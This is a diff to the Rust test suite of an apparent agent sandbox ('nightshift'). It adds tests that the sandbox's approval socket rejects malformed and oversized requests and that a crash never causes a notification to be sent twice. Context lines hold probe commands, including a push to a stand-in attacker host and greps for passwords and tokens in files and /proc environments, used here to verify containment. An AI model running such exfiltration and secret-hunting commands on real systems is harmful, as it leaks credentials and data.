@@ -157,6 +157,8 @@ nightshift-act push https://evil.example/x.git main; echo "url=$?"
 nightshift-act push /srv/other.git main; echo "path=$?"
 echo "should the parser be rewritten?" > q.txt
 nightshift-act ask --file q.txt; echo "ask=$?"
+echo "door-dir=$(ls /run/nightshift | tr '\n' ' ')"
+if touch /run/nightshift/x 2>/dev/null; then echo "door-writable=yes"; else echo "door-writable=no"; fi
 if env | grep -q -e {PASSWORD} -e {TOKEN}; then echo "env-secret=present"; else echo "env-secret=absent"; fi
 if grep -rqs -e {PASSWORD} -e {TOKEN} /run/nightshift /workspace /home /tmp /etc; then echo "file-secret=present"; else echo "file-secret=absent"; fi
 if cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -q -e {PASSWORD} -e {TOKEN}; then echo "proc-secret=present"; else echo "proc-secret=absent"; fi
@@ -186,6 +188,10 @@ if cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -q -e {PASSWORD} -e {TO
     assert_eq!(get("env-secret"), "absent");
     assert_eq!(get("file-secret"), "absent");
     assert_eq!(get("proc-secret"), "absent");
+    // The run sees its own door only (no other run's socket, nothing to write),
+    // and the door has no operation on existing acts at all.
+    assert_eq!(get("door-dir"), "bin door.sock ", "{log}");
+    assert_eq!(get("door-writable"), "no");
     // Nothing left the sandbox during the night.
     assert!(
         m.git_server.requests().iter().all(|r| r.method == "GET"),
@@ -520,4 +526,107 @@ fn a_destination_that_stays_down_is_retried_with_backoff_then_failed() {
     assert_eq!(attempts, 3, "bounded attempts");
     assert_eq!(queue(&m)[0]["status"], "failed");
     assert!(m.state.verify().status.success());
+}
+
+#[test]
+fn malformed_and_oversized_door_requests_get_an_error_and_an_audit_entry() {
+    let m = setup();
+    let log = run_agent(
+        &m,
+        r#"python3 - <<'PY'
+import socket, struct
+def send(raw):
+    s = socket.socket(socket.AF_UNIX); s.connect("/run/nightshift/door.sock")
+    s.sendall(raw)
+    try:
+        head = s.recv(4)
+        n = struct.unpack(">I", head)[0]
+        data = b""
+        while len(data) < n:
+            data += s.recv(n - len(data))
+        print("answer=" + data.decode())
+    except Exception as e:
+        print("answer=none")
+    s.close()
+send(struct.pack(">I", 12) + b"not json {{{")
+send(struct.pack(">I", 0x7fffffff))
+send(struct.pack(">I", 2) + b"{}" + b"trailing")
+PY
+echo q > q.txt; nightshift-act ask --file q.txt; echo "after=$?""#,
+    );
+    let answers: Vec<&str> = log.lines().filter(|l| l.starts_with("answer=")).collect();
+    assert_eq!(answers.len(), 3, "{log}");
+    for a in &answers {
+        assert!(a.contains("\"error\""), "not an error reply: {a}");
+    }
+    // The door still answers afterwards.
+    assert!(log.contains("after=0"), "{log}");
+    let db = rusqlite::Connection::open(m.state.path().join("state.db")).unwrap();
+    let errors: i64 = db
+        .query_row(
+            "SELECT count(*) FROM audit WHERE kind = 'door_request' AND body LIKE '%\"verdict\":\"error\"%'",
+            [],
+            |r| r.get(0),
+        )
+        .unwrap();
+    assert_eq!(errors, 3);
+    assert!(m.state.verify().status.success());
+}
+
+#[test]
+fn kill_9_during_execution_never_sends_twice_and_ends_defined() {
+    use nix::sys::signal::{kill, Signal};
+    use nix::unistd::Pid;
+    let m = setup();
+    // An endpoint that accepts the connection and never answers.
+    let hole = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}/hook", hole.local_addr().unwrap());
+    let config_path = m.state.path().join("destinations.toml");
+    let config = std::fs::read_to_string(&config_path).unwrap();
+    std::fs::write(&config_path, config.replace(&m.notify.url(), &url)).unwrap();
+    run_agent(
+        &m,
+        "echo hello > m.txt && nightshift-act notify team --file m.txt",
+    );
+    let notify = act_of(&queue(&m), "notify");
+    let child = m
+        .state
+        .cmd()
+        .args([
+            "approve",
+            &notify,
+            "--owner-key-file",
+            m.key.to_str().unwrap(),
+        ])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let started = std::time::Instant::now();
+    while queue(&m)[0]["status"] != "executing" {
+        assert!(
+            started.elapsed() < std::time::Duration::from_secs(30),
+            "never executing"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    kill(Pid::from_raw(child.id() as i32), Signal::SIGKILL).unwrap();
+    let _ = child.wait_with_output();
+    // Restart with the endpoint reachable: the message cannot be known to
+    // have gone out, so it is not sent again: it goes stale, for a person.
+    std::fs::write(&config_path, config).unwrap();
+    let out = m.state.run(&[
+        "approve",
+        &notify,
+        "--owner-key-file",
+        m.key.to_str().unwrap(),
+    ]);
+    assert!(!out.status.success(), "{}", stdout(&out));
+    assert_eq!(queue(&m)[0]["status"], "stale");
+    assert!(
+        m.notify.requests().is_empty(),
+        "the message was sent again after the crash"
+    );
+    assert!(m.state.verify().status.success());
+    drop(hole);
 }
